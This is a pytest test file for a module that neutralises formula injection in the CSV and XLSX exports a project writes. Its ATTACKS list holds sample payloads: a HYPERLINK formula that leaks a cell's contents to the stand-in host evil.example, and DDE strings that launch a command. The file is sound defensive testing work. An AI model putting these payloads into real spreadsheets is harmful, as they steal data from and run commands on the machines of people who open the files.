"""Formula-injection neutralisation of every CSV/XLSX the project writes."""

from __future__ import annotations

import csv

import openpyxl
import pandas as pd
import pytest

from tzcld.export.spreadsheet_safety import (
    csv_bytes,
    is_dangerous,
    neutralise_cell,
    neutralise_frame,
    write_csv,
    write_xlsx,
    xlsx_bytes,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_dangerous_text_is_prefixed_with_an_apostrophe(attack: str) -> None:
    assert is_dangerous(attack)
    assert neutralise_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Liège", "104 M€", "", "a=b", "2024-09", "'=already quoted"])
def test_safe_text_is_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-3.5, 0, 42, None, True])
def test_non_text_values_are_unchanged(value) -> None:
    assert neutralise_cell(value) is value


def test_frame_keeps_numbers_and_missing_values() -> None:
    frame = pd.DataFrame({"text": ["=1+1", None, "ok"], "n": [-1.5, 2.0, None]})
    out = neutralise_frame(frame)
    assert out["text"].tolist()[0] == "'=1+1"
    assert pd.isna(out["text"].tolist()[1])
    assert out["n"].tolist()[0] == -1.5  # negative numbers stay numbers
    assert frame["text"].tolist()[0] == "=1+1"  # the input is not modified


def test_csv_cells_cannot_start_a_formula(tmp_path) -> None:
    frame = pd.DataFrame({"source": ATTACKS, "value": range(len(ATTACKS))})
    path = write_csv(frame, tmp_path / "x.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(ATTACKS)
    for row, attack in zip(rows, ATTACKS):
        assert row["source"] == "'" + attack
    assert path.read_bytes() == csv_bytes(frame)


def test_xlsx_has_no_formula_cells(tmp_path) -> None:
    frame = pd.DataFrame({"source": ATTACKS, "value": [-1.0] * len(ATTACKS)})
    path = write_xlsx({"registre": frame}, tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(path)["registre"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells, "workbook is empty"
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # XML stores a carriage return as a line feed; the apostrophe is what matters.
    assert texts == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    numbers = [c.value for c in cells if not isinstance(c.value, str)]
    assert numbers == [-1.0] * len(ATTACKS)
    assert xlsx_bytes({"registre": frame})[:2] == b"PK"
